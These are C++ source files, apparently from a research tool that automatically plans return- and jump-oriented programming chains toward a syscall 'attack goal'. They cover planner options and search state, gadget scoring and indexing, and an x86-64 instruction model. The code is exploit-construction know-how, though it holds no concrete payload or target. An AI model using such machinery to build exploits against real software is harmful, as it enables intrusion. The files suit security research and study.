  /// plan() call; terminal_const_ok allows exact-constant terminal matches)
  bool reg_usable(x86::Reg reg, const Options& opts);
  void run_round(const payload::Goal& goal, const Options& opts,
                 std::vector<payload::Chain>& chains,
                 std::set<std::vector<u32>>& seen_sequences,
                 const Deadline& deadline);
  /// Topological order of alpha respecting beta; nullopt on cycle.
  static std::optional<std::vector<int>> linearize(const Plan& p);
  std::vector<Plan> expand(const Plan& p, const Options& opts);

  solver::Context& ctx_;
  const gadget::Library& lib_;
  const image::Image& img_;
  const payload::Goal* goal_ = nullptr;  // active goal during plan()
  std::unordered_map<int, bool> usable_memo_;
  /// Adaptive diversification: gadgets implicated in failed
  /// concretizations are deprioritized in later candidate rankings.
  std::unordered_map<u32, int> failure_count_;
  int rotation_ = 0;  // current restart round (rotates candidate ranking)
  Stats stats_;
};

}  // namespace gp::planner
