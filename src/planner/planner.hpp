// Partial-order planner (paper Sec. IV-D).
//
// The planner searches backward from the attack goal over the 5-tuple plan
// state (alpha, beta, gamma, delta, epsilon):
//   alpha  selected gadget instances,
//   beta   ordering constraints "i must precede j",
//   gamma  causal links: which step establishes which register for whom,
//   delta  open pre-conditions (registers still needing a producer),
//   epsilon threatened causal links, resolved by demotion orderings (a
//           clobberer of a linked register is forced before its producer)
//           or — when no consistent order exists — plan discard.
// A greedy best-first queue is ordered by the paper's heuristics: fewest
// open pre-conditions first, then fewest accumulated symbolic constraints.
// Complete plans are linearized (topological sort of beta) and handed to
// payload::concretize, whose solver + emulator validation is the final
// arbiter; the planner keeps searching for more, diverse chains until the
// budget or max_chains is reached.
#pragma once

#include <chrono>
#include <optional>
#include <set>
#include <span>
#include <unordered_map>

#include "gadget/gadget.hpp"
#include "payload/payload.hpp"
#include "planner/index.hpp"
#include "support/config.hpp"
#include "support/serial.hpp"

namespace gp::store {
class ArtifactStore;
}

namespace gp::planner {

/// Planner algorithm revision. Folded into Options::append_key, so every
/// plan-stage artifact (chains, nogood memos) from an older search
/// algorithm reads as a different key and is recomputed — bumping this is
/// how a behaviour-changing planner fix invalidates stale checkpoints
/// without touching the global store format version.
constexpr u32 kPlannerVersion = 2;

struct Options {
  int max_expansions = 4000;       // plans popped from the queue
  int max_chains = 16;             // validated chains per goal
  int max_candidates_per_goal = 10;
  int max_plan_gadgets = 12;
  int max_open_goals = 7;          // discard plans whose delta grows past this
  /// Give-up budget for concretization-hostile goals: once this many
  /// complete plans have failed concretization with no offsetting
  /// successes left to find, the search stops instead of burning the full
  /// expansion budget enumerating more doomed sequences (the campaign
  /// critical path was one goal refuting 2.4k sequences at ~24ms of
  /// solver work each; jobs that do find chains never exceeded 10
  /// failures, so the default keeps a >10x margin). A COUNTED budget,
  /// not wall clock: the cut point is deterministic, so results stay
  /// reproducible and checkpointable, and it applies identically with
  /// the index on or off. 0 = unlimited.
  int max_concretize_failures = 128;
  double time_budget_seconds = 60.0;
  /// Diversification: the search restarts this many times, rotating the
  /// per-goal candidate preference each round (failed sequences stay
  /// banned across rounds).
  int restarts = 6;
  /// Shared resource governor (optional; must outlive the call). Its
  /// deadline is combined with time_budget_seconds — whichever expires
  /// first stops the search at the next queue pop — and it is handed down
  /// to concretize so solver calls inside validation are governed too.
  /// Expiry always returns the best-so-far chains, never throws.
  Governor* governor = nullptr;
  payload::ConcretizeOptions concretize;
  /// Search/concretization failure tracing to stderr. Resolved once from
  /// the gp::Config snapshot (GP_DEBUG_PLAN / GP_DEBUG_CONC) instead of a
  /// per-iteration getenv in the expansion loop.
  bool debug_plan = config().debug_plan;
  bool debug_conc = config().debug_conc;
  // Ablation switches (the paper's thesis: baselines lack these).
  bool use_cond_gadgets = true;    // CDJ/CIJ paths
  bool use_indirect_gadgets = true;
  bool use_direct_merged = true;   // gadgets spanning direct jumps

  /// Search over the precomputed GadgetIndex instead of re-analyzing every
  /// candidate per expansion, learn nogoods, and run the reachability
  /// precheck. Results are bit-identical either way (the tier-1 harness
  /// diffs digests across the two modes); off is the linear reference
  /// path. Defaults from the GP_PLAN_INDEX knob.
  bool use_index = config().plan_index;
  /// Remember zero-successor search states so they are never re-expanded
  /// within or across restart rounds (and, with memo_store, across runs).
  bool use_nogoods = config().plan_index;

  /// Optional warm-start persistence: when set (with a nonzero
  /// pool_digest), the built index is stored under (pool digest, index
  /// format version) and learned nogoods under (pool digest, append_key,
  /// goal), so repeated campaigns over the same pool skip the build and
  /// start with the previous run's learned dead ends. Both artifacts are
  /// performance hints only — they never change results.
  store::ArtifactStore* memo_store = nullptr;
  /// Content digest of the gadget pool (gadget::pool_digest); 0 disables
  /// memo persistence.
  u64 pool_digest = 0;
  /// Owning session id for trace spans (0 = none).
  u64 session_id = 0;

  /// Append every field that determines the planner's *output* to an
  /// artifact-store key writer. Time budget and governor are excluded on
  /// purpose: results are only checkpointed when the search ran uncut, and
  /// an uncut search is deterministic regardless of how much budget was
  /// left over. use_index/use_nogoods and the memo fields are likewise
  /// excluded: they accelerate the search without changing its output.
  void append_key(serial::Writer& w) const;
};

struct Stats {
  u64 expansions = 0;
  u64 successors = 0;
  u64 dead_ends = 0;        // unresolvable threats / empty candidate sets
  u64 linearizations = 0;
  u64 concretize_calls = 0;
  u64 validated = 0;
  /// Search rounds cut short by the deadline / governor (checked at every
  /// queue pop) or by an exhausted global budget mid-expansion. The chains
  /// found before the cut are still returned.
  u64 deadline_cuts = 0;
  /// Expansions served from prescored GadgetIndex buckets (vs the linear
  /// re-analysis fallback).
  u64 index_hits = 0;
  /// GadgetIndex builds / warm loads from the memo store this call.
  u64 index_builds = 0;
  u64 index_loads = 0;
  /// Queue pops answered by the nogood table (state already proven to have
  /// zero successors — the expand scan is skipped entirely).
  u64 nogood_hits = 0;
  /// Zero-successor states learned this call.
  u64 nogood_learned = 0;
  /// Accepted candidates whose indirect-read dependency walk hit the
  /// expansion cap: deep pointer-dependency chains beyond the cap are
  /// treated as met, which this counter makes visible instead of silent.
  u64 needs_truncated = 0;
  /// Goals rejected by the reachability precheck (no producer closure for
  /// some goal register, or no feasible syscall gadget) without any
  /// search.
  u64 unreachable_goals = 0;
  /// Searches stopped by the max_concretize_failures give-up budget (0 or
  /// 1 per plan() call). A cut search still returns every chain validated
  /// before the budget ran out.
  u64 failure_budget_cuts = 0;
  /// Wall seconds the reachability precheck took (the "fail in
  /// milliseconds, not minutes" budget; plan.unreachable_ms in metrics).
  double precheck_seconds = 0;
  /// Ok for an uncut search; otherwise the first degradation reason.
  Status status;
};

class Planner {
 public:
  Planner(solver::Context& ctx, const gadget::Library& lib,
          const image::Image& img)
      : ctx_(ctx), lib_(lib), img_(img) {}

  /// Find up to opts.max_chains validated chains for the goal.
  std::vector<payload::Chain> plan(const payload::Goal& goal,
                                   const Options& opts = {});

  /// Counters for the MOST RECENT plan() call (an explicit per-call
  /// window, reset at entry — callers wanting totals across goals
  /// accumulate themselves, as Session does).
  const Stats& stats() const { return stats_; }

 private:
  struct Step {
    u32 gadget;
    x86::Reg provides;  // register this step was chosen to establish
    int consumer;       // step index it feeds, or -1 for the terminal goal
  };
  struct Plan {
    std::vector<Step> alpha;
    std::vector<std::pair<int, int>> beta;  // (before, after)
    std::vector<std::pair<x86::Reg, int>> delta;  // open (reg, consumer)
    u32 terminal;       // syscall gadget index
    int n_constraints = 0;

    bool operator<(const Plan& o) const {  // priority: worse = later
      // Paper heuristics: fewest open pre-conditions first; among equals,
      // prefer the deeper plan (dive toward completion instead of flooding
      // the frontier), then fewer accumulated constraints.
      if (delta.size() != o.delta.size()) return delta.size() > o.delta.size();
      if (alpha.size() != o.alpha.size()) return alpha.size() < o.alpha.size();
      return n_constraints > o.n_constraints;
    }
  };

  bool admissible(const gadget::Record& g, const Options& opts) const;
  /// Is there any statically usable provider for `reg`? (memoized per
  /// plan() call; terminal_const_ok allows exact-constant terminal matches)
  bool reg_usable(x86::Reg reg, const Options& opts);
  /// Does the provided constant exactly match a Const goal target for reg?
  bool goal_const_match(x86::Reg reg, u64 value) const;
  void run_round(const payload::Goal& goal, const Options& opts,
                 std::vector<payload::Chain>& chains,
                 std::set<std::vector<u32>>& seen_sequences,
                 const Deadline& deadline);
  /// Topological order of alpha respecting beta; nullopt on cycle.
  static std::optional<std::vector<int>> linearize(const Plan& p);
  std::vector<Plan> expand(const Plan& p, const Options& opts);

  /// Build (or warm-load from the memo store) the candidate index; resets
  /// it when use_index is off. On budget exhaustion mid-build the planner
  /// falls back to the linear path — identical results, just slower.
  void ensure_index(const Options& opts);
  /// Sound fast-fail: true when the goal provably has no chain (missing
  /// producer closure for a goal register or no feasible syscall gadget) —
  /// exactly the cases where the full search would burn its budget to find
  /// nothing.
  bool precheck_unreachable(const payload::Goal& goal, const Options& opts);
  /// Memo key for the per-goal nogood artifact ("" = persistence off).
  std::string nogood_key(const Options& opts, const payload::Goal& goal) const;

  /// Has this call consumed the max_concretize_failures give-up budget?
  /// (Counted on the per-call stats window, so it is deterministic and
  /// identical with the index on or off.)
  bool failure_budget_spent(const Options& opts) const {
    return opts.max_concretize_failures > 0 &&
           stats_.concretize_calls - stats_.validated >=
               static_cast<u64>(opts.max_concretize_failures);
  }

  /// Round-local dedup fingerprint of a successor plan: order-independent
  /// over the step/open-goal multiset (multiset_hash — duplicate steps do
  /// not cancel).
  u64 visited_fingerprint(const Plan& p) const;
  /// Nogood identity of a search state: everything expand() reads —
  /// terminal, the alpha step sequence, normalized beta, the focused open
  /// goal and the open-goal count. Rotation and failure counts are
  /// deliberately absent (they permute candidate order; a zero-successor
  /// result is order-independent).
  u64 state_fingerprint(const Plan& p) const;

  solver::Context& ctx_;
  const gadget::Library& lib_;
  const image::Image& img_;
  const payload::Goal* goal_ = nullptr;  // active goal during plan()
  std::unordered_map<int, bool> usable_memo_;
  /// Adaptive diversification: gadgets implicated in failed
  /// concretizations are deprioritized in later candidate rankings.
  /// Scoped per plan() call — one goal's failures must not punish
  /// providers for an unrelated goal on a reused planner.
  std::unordered_map<u32, int> failure_count_;
  int rotation_ = 0;  // current restart round (rotates candidate ranking)
  std::optional<GadgetIndex> index_;
  NogoodTable nogoods_;
  Stats stats_;
};

}  // namespace gp::planner
