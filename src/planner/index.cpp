#include "planner/index.hpp"

#include <algorithm>

#include "sym/exec.hpp"
#include "sym/state.hpp"

namespace gp::planner {

using gadget::EndKind;
using gadget::Record;
using gadget::RegMask;
using gadget::reg_bit;
using solver::ExprRef;
using x86::Reg;

u64 multiset_hash(std::span<const u64> parts, u64 seed) {
  std::vector<u64> sorted(parts.begin(), parts.end());
  std::sort(sorted.begin(), sorted.end());
  // Sorted-sequence fold: position-dependent multiply keeps duplicates from
  // cancelling (h contributes twice, not zero times, for a repeated part).
  u64 h = seed ^ (0x9e3779b97f4a7c15ULL + static_cast<u64>(parts.size()));
  for (const u64 v : sorted) {
    h ^= v;
    h *= 0x100000001b3ULL;
    h ^= h >> 29;
  }
  return h;
}

bool admissible(const Record& g, const AdmissionFlags& f) {
  if (!f.use_cond_gadgets && g.has_cond_jump) return false;
  if (!f.use_direct_merged && g.has_direct_jump) return false;
  if (!f.use_indirect_gadgets && g.end != EndKind::Ret &&
      g.end != EndKind::Syscall)
    return false;
  return true;
}

Candidate analyze_candidate(solver::Context& ctx, const gadget::Library& lib,
                            u32 gi, Reg reg) {
  const Record& g = lib[gi];
  Candidate c;
  c.gadget = gi;

  const ExprRef fin = g.final_regs[static_cast<int>(reg)];
  c.dag_size = static_cast<u32>(ctx.dag_size(fin));
  if (ctx.is_const(fin)) {
    c.flags |= Candidate::kConstValue;
    c.const_value = ctx.const_val(fin);
  }
  if (g.end == EndKind::Syscall) c.flags |= Candidate::kSyscallEnd;
  if (!g.stack_delta && g.end == EndKind::Ret && !g.can_set(Reg::RSP))
    c.flags |= Candidate::kStackBad;
  if (g.next_rip != solver::kNoExpr && ctx.is_const(g.next_rip))
    c.flags |= Candidate::kNextRipConst;

  // Dependency count for the ranking score. Walk the provided value's
  // variables; POINTER (ind) variables count the registers of their load
  // address (one level is enough to catch the `mov rbp, [rbp-x]` style
  // self-regress).
  int deps = 0;
  bool self_loop = false;
  {
    std::vector<ExprRef> work = ctx.variables(fin);
    for (size_t wi = 0; wi < work.size() && wi < 64; ++wi) {
      const std::string& name = ctx.var_name(work[wi]);
      if (sym::parse_stack_var(name)) continue;
      if (name.rfind("ind", 0) == 0) {
        for (const sym::IndirectRead& ir : g.ind_reads)
          if (ir.var == work[wi])
            for (const ExprRef av : ctx.variables(ir.addr)) work.push_back(av);
        continue;
      }
      ++deps;
      if (name == sym::initial_reg_var(reg)) self_loop = true;
    }
  }
  if (self_loop) c.flags |= Candidate::kSelfLoop;

  int clob_count = 0;
  for (int rbit = 0; rbit < x86::kNumRegs; ++rbit)
    clob_count += (g.clobbered >> rbit) & 1;

  // A gadget whose own pointer side-effects constrain the very value it
  // provides (e.g. `pop rax; add [rax], esp; ...`) can only serve
  // pointer-valued goals; heavily deprioritize it.
  bool value_is_pointer = false;
  {
    const auto provided_vars = ctx.variables(fin);
    for (const sym::IndirectRead& ir : g.ind_reads)
      for (const ExprRef av : ctx.variables(ir.addr))
        for (const ExprRef pv : provided_vars)
          value_is_pointer |= av == pv;
  }
  if (value_is_pointer) c.flags |= Candidate::kValuePointer;

  // Writes through non-rsp-relative pointers may alias the payload in ways
  // the no-alias memory model cannot see; validation usually rejects such
  // chains, so prefer gadgets without them.
  int wild_writes = 0;
  {
    const ExprRef rsp0v = ctx.var(sym::initial_reg_var(Reg::RSP), 64);
    for (const auto& w : g.writes) {
      const auto bo = sym::split_base_offset(ctx, w.addr);
      if (!bo || bo->base != rsp0v) ++wild_writes;
    }
  }

  // Prefer clean ret gadgets with simple transfer targets; complex
  // computed-jump targets (VM dispatch arithmetic) go last.
  const int transfer_cost =
      g.end == EndKind::Ret || g.next_rip == solver::kNoExpr
          ? 0
          : 30 + static_cast<int>(
                     std::min<size_t>(ctx.dag_size(g.next_rip), 40));

  // A computed-transfer gadget whose own path condition constrains the
  // transfer target — a bounds-checked jump table is the canonical shape
  // (`cmp sel, n; jb ...; jmp [table+sel*8]`) — can only reach the few
  // in-range entries, so steering it at an arbitrary next gadget is
  // almost always UNSAT. Sink it into the bottom band (>= the shuffle
  // threshold) so the unconstrained variants get tried first.
  bool target_constrained = false;
  if (g.end != EndKind::Ret && g.next_rip != solver::kNoExpr &&
      !g.precond.empty() && !ctx.is_const(g.next_rip)) {
    std::vector<ExprRef> tvars = ctx.variables(g.next_rip);
    for (size_t ti = 0; ti < tvars.size() && ti < 64; ++ti) {
      if (ctx.var_name(tvars[ti]).rfind("ind", 0) != 0) continue;
      for (const sym::IndirectRead& ir : g.ind_reads)
        if (ir.var == tvars[ti])
          for (const ExprRef av : ctx.variables(ir.addr))
            tvars.push_back(av);
    }
    for (const ExprRef pc : g.precond) {
      for (const ExprRef pv : ctx.variables(pc))
        for (const ExprRef tv : tvars)
          target_constrained |= pv == tv;
      if (target_constrained) break;
    }
  }

  c.base_score = (self_loop ? 2000 : 0) + (value_is_pointer ? 1500 : 0) +
                 (target_constrained ? 1400 : 0) +
                 300 * wild_writes + 80 * deps +
                 10 * static_cast<int>(g.precond.size()) + 4 * clob_count +
                 transfer_cost + g.n_insts;

  // Open-precondition walk: every initial register the gadget's path
  // condition, indirect transfer target, or provided-value expression
  // depends on, in first-encounter order (the order expand() used to push
  // them as open subgoals). The `< 32` expansion cap matches the search's
  // historical behaviour; hitting it is recorded instead of silently
  // treating the dropped pointer dependencies as met.
  std::vector<ExprRef> needs = g.precond;
  if (g.next_rip != solver::kNoExpr) needs.push_back(g.next_rip);
  needs.push_back(fin);
  bool seen[x86::kNumRegs] = {};
  for (size_t ni = 0; ni < needs.size(); ++ni) {
    const ExprRef pc = needs[ni];
    for (const ExprRef v : ctx.variables(pc)) {
      const std::string& name = ctx.var_name(v);
      if (sym::parse_stack_var(name)) continue;  // payload: solver's job
      if (name.rfind("ind", 0) == 0) {
        // POINTER dependency: the load's address registers must be
        // controlled too.
        for (const sym::IndirectRead& ir : g.ind_reads)
          if (ir.var == v) {
            if (needs.size() < 32)
              needs.push_back(ir.addr);
            else
              c.flags |= Candidate::kNeedsTruncated;
          }
        continue;
      }
      for (int r = 0; r < x86::kNumRegs; ++r) {
        const Reg rr = static_cast<Reg>(r);
        if (rr == Reg::RSP) continue;
        if (name != sym::initial_reg_var(rr)) continue;
        if (!seen[r]) {
          seen[r] = true;
          c.needs[c.n_needs++] = static_cast<u8>(r);
        }
      }
    }
  }
  return c;
}

GadgetIndex GadgetIndex::build(solver::Context& ctx,
                               const gadget::Library& lib) {
  GadgetIndex idx;
  idx.pool_size_ = lib.size();
  for (int r = 0; r < x86::kNumRegs; ++r) {
    const Reg reg = static_cast<Reg>(r);
    const auto& controlling = lib.controlling(reg);
    auto& bucket = idx.by_reg_[static_cast<size_t>(r)];
    bucket.reserve(controlling.size());
    for (const u32 gi : controlling)
      bucket.push_back(analyze_candidate(ctx, lib, gi, reg));
  }
  return idx;
}

RegMask GadgetIndex::establishable(const gadget::Library& lib,
                                   const AdmissionFlags& f) const {
  RegMask closure = 0;
  bool changed = true;
  while (changed) {
    changed = false;
    for (int r = 0; r < x86::kNumRegs; ++r) {
      const RegMask bit = reg_bit(static_cast<Reg>(r));
      if (closure & bit) continue;
      for (const Candidate& c : by_reg_[static_cast<size_t>(r)]) {
        if (c.position_filtered()) continue;
        // Constant-valued setters cannot be steered; they only serve an
        // exact-constant terminal goal (handled in goal_unreachable).
        if (c.flags & Candidate::kConstValue) continue;
        if (!admissible(lib[c.gadget], f)) continue;
        bool deps_ok = true;
        for (u8 i = 0; i < c.n_needs; ++i)
          deps_ok &= (closure & reg_bit(static_cast<Reg>(c.needs[i]))) != 0;
        if (!deps_ok) continue;
        closure |= bit;
        changed = true;
        break;
      }
    }
  }
  return closure;
}

bool GadgetIndex::goal_unreachable(const gadget::Library& lib,
                                   const payload::Goal& goal,
                                   const AdmissionFlags& f) const {
  const RegMask closure = establishable(lib, f);
  for (const payload::RegTarget& t : goal.regs) {
    if (closure & reg_bit(t.reg)) continue;
    // Not in the closure via steerable providers; an exact-constant
    // provider can still serve a Const target directly, as long as its own
    // dependencies are establishable.
    bool provided = false;
    for (const Candidate& c : by_reg_[static_cast<size_t>(t.reg)]) {
      if (c.position_filtered()) continue;
      if (!admissible(lib[c.gadget], f)) continue;
      if (c.flags & Candidate::kConstValue) {
        if (!(t.kind == payload::RegTarget::Kind::Const &&
              t.value == c.const_value))
          continue;
      }
      bool deps_ok = true;
      for (u8 i = 0; i < c.n_needs; ++i)
        deps_ok &= (closure & reg_bit(static_cast<Reg>(c.needs[i]))) != 0;
      if (!deps_ok) continue;
      provided = true;
      break;
    }
    if (!provided) return true;
  }
  return false;
}

std::vector<std::vector<u8>> GadgetIndex::encode() const {
  std::vector<std::vector<u8>> records;
  serial::Writer header;
  header.put_u32(kIndexFormatVersion);
  header.put_u64(pool_size_);
  header.put_u32(static_cast<u32>(x86::kNumRegs));
  records.push_back(header.take());
  for (int r = 0; r < x86::kNumRegs; ++r) {
    serial::Writer w;
    const auto& bucket = by_reg_[static_cast<size_t>(r)];
    w.put_u32(static_cast<u32>(bucket.size()));
    for (const Candidate& c : bucket) {
      w.put_u32(c.gadget);
      w.put_u64(static_cast<u64>(static_cast<i64>(c.base_score)));
      w.put_u32(c.dag_size);
      w.put_u64(c.const_value);
      w.put_u16(c.flags);
      w.put_u8(c.n_needs);
      for (u8 i = 0; i < c.n_needs; ++i) w.put_u8(c.needs[i]);
    }
    records.push_back(w.take());
  }
  return records;
}

std::optional<GadgetIndex> GadgetIndex::decode(
    const std::vector<std::vector<u8>>& records, u64 expect_pool_size) {
  if (records.size() != 1 + static_cast<size_t>(x86::kNumRegs))
    return std::nullopt;
  serial::Reader header(records[0]);
  const u32 version = header.get_u32();
  const u64 pool_size = header.get_u64();
  const u32 n_regs = header.get_u32();
  if (!header.ok() || !header.at_end() || version != kIndexFormatVersion ||
      pool_size != expect_pool_size ||
      n_regs != static_cast<u32>(x86::kNumRegs))
    return std::nullopt;

  GadgetIndex idx;
  idx.pool_size_ = pool_size;
  for (int r = 0; r < x86::kNumRegs; ++r) {
    serial::Reader w(records[1 + static_cast<size_t>(r)]);
    const u32 count = w.get_u32();
    if (!w.ok()) return std::nullopt;
    auto& bucket = idx.by_reg_[static_cast<size_t>(r)];
    bucket.reserve(count);
    for (u32 i = 0; i < count; ++i) {
      Candidate c;
      c.gadget = w.get_u32();
      c.base_score = static_cast<i32>(static_cast<i64>(w.get_u64()));
      c.dag_size = w.get_u32();
      c.const_value = w.get_u64();
      c.flags = w.get_u16();
      c.n_needs = w.get_u8();
      if (!w.ok() || c.gadget >= pool_size || c.n_needs > c.needs.size())
        return std::nullopt;
      for (u8 n = 0; n < c.n_needs; ++n) {
        c.needs[n] = w.get_u8();
        if (c.needs[n] >= x86::kNumRegs ||
            static_cast<Reg>(c.needs[n]) == Reg::RSP)
          return std::nullopt;
      }
      bucket.push_back(c);
    }
    if (!w.ok() || !w.at_end()) return std::nullopt;
  }
  return idx;
}

std::vector<std::vector<u8>> NogoodTable::encode() const {
  std::vector<u64> sorted(set_.begin(), set_.end());
  std::sort(sorted.begin(), sorted.end());
  serial::Writer w;
  w.put_u32(kIndexFormatVersion);
  w.put_u64(static_cast<u64>(sorted.size()));
  for (const u64 fp : sorted) w.put_u64(fp);
  return {w.take()};
}

void NogoodTable::merge_decode(const std::vector<std::vector<u8>>& records) {
  if (records.size() != 1) return;
  serial::Reader r(records[0]);
  const u32 version = r.get_u32();
  const u64 count = r.get_u64();
  if (!r.ok() || version != kIndexFormatVersion ||
      count * 8 != r.remaining())
    return;
  std::vector<u64> fps;
  fps.reserve(count);
  for (u64 i = 0; i < count; ++i) fps.push_back(r.get_u64());
  if (!r.ok() || !r.at_end()) return;
  const bool was_dirty = dirty_;
  for (const u64 fp : fps) set_.insert(fp);
  dirty_ = was_dirty;  // persisted entries are not new learning
}

}  // namespace gp::planner
