// Postcondition-indexed gadget store + dead-end (nogood) memo for the
// partial-order planner.
//
// The planner's expand() used to recompute, for every candidate of every
// expansion, the full semantic profile of a (gadget, register) pair: the
// dependency walk over the provided value's variables, the pointer-value
// and wild-write analyses, the chain-position filters and the base score.
// On obfuscated pools (thousands of gadgets, millions of dead ends) that
// inner loop IS the campaign critical path. GadgetIndex hoists the whole
// per-pair computation into one precomputed Candidate per (register,
// controlling gadget), built once per pool and shared by every goal,
// round and restart; expand() becomes a cheap filter over prescored
// buckets.
//
// Equivalence contract: analyze_candidate() is the ONE implementation of
// the per-candidate semantics. The index stores its output verbatim and
// the linear (index-disabled) path calls it per expansion, so the two
// modes produce byte-identical chains — the tier-1 harness diffs campaign
// result digests across GP_PLAN_INDEX=0/1 to prove it.
//
// The index is a pure function of pool content (admissibility stays a
// runtime Record-field check so one index serves every ablation), which
// makes it content-addressable: Planner persists it in the ArtifactStore
// keyed on (pool digest, kIndexFormatVersion) and repeated campaigns over
// the same pool start warm. NogoodTable entries (search states proven to
// have zero successors) are likewise persisted per (pool digest, planner
// options, goal).
#pragma once

#include <array>
#include <optional>
#include <span>
#include <unordered_set>
#include <vector>

#include "gadget/gadget.hpp"
#include "payload/payload.hpp"
#include "support/serial.hpp"

namespace gp::planner {

/// Bumped whenever Candidate layout or analyze_candidate() semantics
/// change; persisted indexes and nogood memos from another version read as
/// stale and are rebuilt.
constexpr u32 kIndexFormatVersion = 2;

/// Order-independent combine of per-element hashes: elements are sorted,
/// then folded with a position-mixing sequence hash, so the same multiset
/// reached through any insertion order hashes identically — and, unlike an
/// XOR fold, two copies of one element do NOT cancel to the empty
/// contribution (the duplicate-step collision bug).
u64 multiset_hash(std::span<const u64> parts, u64 seed);

/// Precomputed semantic profile of one (gadget, register) pair —
/// everything expand() needs that depends only on pool content.
struct Candidate {
  // Chain-position filters (recomputed per candidate before indexing).
  static constexpr u16 kSyscallEnd = 1u << 0;   // terminal-only gadget
  static constexpr u16 kStackBad = 1u << 1;     // symbolic rsp, no pivot
  static constexpr u16 kNextRipConst = 1u << 2; // resolved jump table
  static constexpr u16 kConstValue = 1u << 3;   // provided value is const
  // Score provenance (folded into base_score; kept for diagnostics).
  static constexpr u16 kSelfLoop = 1u << 4;
  static constexpr u16 kValuePointer = 1u << 5;
  /// The needs walk hit the expansion cap: at least one indirect-read
  /// address dependency was dropped and is treated as met (counted in
  /// Stats::needs_truncated, never silent).
  static constexpr u16 kNeedsTruncated = 1u << 6;

  u32 gadget = 0;
  /// Ranking score without the per-goal failure_cost term (added at
  /// expansion time — concretization failures are search state, not pool
  /// content).
  i32 base_score = 0;
  /// dag_size of the provided-value expression (plan n_constraints term).
  u32 dag_size = 0;
  /// Constant final value when kConstValue (terminal goal matching).
  u64 const_value = 0;
  u16 flags = 0;
  /// Initial registers the candidate's preconditions, transfer target and
  /// provided value depend on, in first-encounter order (the order the
  /// needs walk pushed them as open subgoals). RSP is excluded, so 15 is
  /// the ceiling.
  u8 n_needs = 0;
  std::array<u8, 15> needs{};

  /// Filters that make the candidate unusable at any non-terminal chain
  /// position, regardless of goal or options.
  bool position_filtered() const {
    return flags & (kSyscallEnd | kStackBad | kNextRipConst);
  }
};

/// Ablation subset of planner::Options that participates in admissibility
/// (index-independent: the closure recomputes per option set).
struct AdmissionFlags {
  bool use_cond_gadgets = true;
  bool use_indirect_gadgets = true;
  bool use_direct_merged = true;
};

/// Is `g` admissible under the ablation flags? (The single implementation;
/// Planner::admissible delegates here.)
bool admissible(const gadget::Record& g, const AdmissionFlags& f);

/// Compute the full semantic profile of lib[gi] as a provider of `reg`.
/// This is the one transcription of expand()'s per-candidate analysis —
/// both the index build and the linear fallback call it, which is what
/// makes the two modes bit-identical.
Candidate analyze_candidate(solver::Context& ctx, const gadget::Library& lib,
                            u32 gi, x86::Reg reg);

class GadgetIndex {
 public:
  /// Analyze every (register, controlling gadget) pair of `lib`. May throw
  /// ResourceExhausted under a counted budget; callers fall back to the
  /// linear path (identical results, just slower).
  static GadgetIndex build(solver::Context& ctx, const gadget::Library& lib);

  /// Prescored candidates for `reg`, in lib.controlling(reg) order (the
  /// order the linear path scans, so stable sorts tie-break identically).
  std::span<const Candidate> candidates(x86::Reg reg) const {
    return by_reg_[static_cast<size_t>(reg)];
  }

  /// Gadget count of the pool this index was built for (decode validation).
  u64 pool_size() const { return pool_size_; }

  /// Fixpoint closure of registers establishable under `f`: reg r is in
  /// the closure iff some candidate for r passes the position filters and
  /// admissibility and every register it needs is itself establishable.
  /// Constant-valued providers never join the closure (they serve only
  /// exact-match terminal goals, checked separately by goal_unreachable).
  gadget::RegMask establishable(const gadget::Library& lib,
                                const AdmissionFlags& f) const;

  /// Does some goal register provably lack a producer closure? A true
  /// return is sound: the planner's search would exhaust its budget
  /// finding zero chains, so failing in milliseconds loses nothing.
  bool goal_unreachable(const gadget::Library& lib, const payload::Goal& goal,
                        const AdmissionFlags& f) const;

  std::vector<std::vector<u8>> encode() const;
  /// Rebuild from store records; nullopt on corruption, version skew or a
  /// pool-size mismatch (the digest key should prevent the latter, but
  /// nothing from disk is trusted).
  static std::optional<GadgetIndex> decode(
      const std::vector<std::vector<u8>>& records, u64 expect_pool_size);

 private:
  std::array<std::vector<Candidate>, x86::kNumRegs> by_reg_;
  u64 pool_size_ = 0;
};

/// Learned dead ends: fingerprints of search states whose expand() provably
/// returns zero successors. Sound across rounds and runs — a state's
/// successor set is empty independently of the restart rotation and the
/// failure counts (those only permute candidate order, and order is
/// irrelevant when nothing survives the filters).
class NogoodTable {
 public:
  bool contains(u64 fp) const { return set_.count(fp) != 0; }
  void insert(u64 fp) {
    if (set_.insert(fp).second) dirty_ = true;
  }
  size_t size() const { return set_.size(); }
  void clear() {
    set_.clear();
    dirty_ = false;
  }
  /// Any entries learned since the last decode/clear? (save gate)
  bool dirty() const { return dirty_; }

  /// Sorted fingerprints (stable bytes for content-addressed storage).
  std::vector<std::vector<u8>> encode() const;
  /// Merge persisted fingerprints into the table (fail-soft: a corrupt
  /// record merges nothing). Merged entries do not mark the table dirty.
  void merge_decode(const std::vector<std::vector<u8>>& records);

 private:
  std::unordered_set<u64> set_;
  bool dirty_ = false;
};

}  // namespace gp::planner
