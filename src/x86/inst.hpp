// x86-64 instruction model for the gadget-relevant subset.
//
// The subset covers the instructions that dominate compiled code and ROP/JOP
// gadget bodies: data movement, integer ALU ops, stack ops, LEA, shifts,
// compares/tests, all control transfers (ret / direct & indirect jmp & call /
// conditional jumps), and syscall. Operand sizes are 32 and 64 bits (plus the
// imm16 of `ret imm16`), which is what compilers emit for integer code.
#pragma once

#include <optional>
#include <string>

#include "support/common.hpp"

namespace gp::x86 {

/// General-purpose registers, in x86 machine-encoding order.
enum class Reg : u8 {
  RAX = 0, RCX, RDX, RBX, RSP, RBP, RSI, RDI,
  R8, R9, R10, R11, R12, R13, R14, R15,
  NONE = 16,
};

constexpr int kNumRegs = 16;
const char* reg_name(Reg r, unsigned bits = 64);

/// Condition codes, in x86 encoding order (for 0x70+cc / 0x0F 0x80+cc).
enum class Cond : u8 {
  O = 0, NO, B, AE, E, NE, BE, A, S, NS, P, NP, L, GE, LE, G,
};
const char* cond_name(Cond c);
/// The cc with the opposite truth value (E <-> NE, L <-> GE, ...).
Cond negate(Cond c);

enum class Mnemonic : u8 {
  MOV, MOVABS, LEA, XCHG,
  MOVZX, MOVSX,  // byte/word widening moves (src size in src_size)
  CMOV,          // conditional move (cond field)
  ADD, SUB, AND, OR, XOR, CMP, TEST,
  NOT, NEG, INC, DEC, IMUL,  // IMUL is the two-operand 0F AF form
  SHL, SHR, SAR,
  PUSH, POP,
  RET,       // ret / ret imm16 (imm in dst.imm)
  JMP,       // direct (rel) or indirect (r/m)
  JCC,       // conditional direct jump
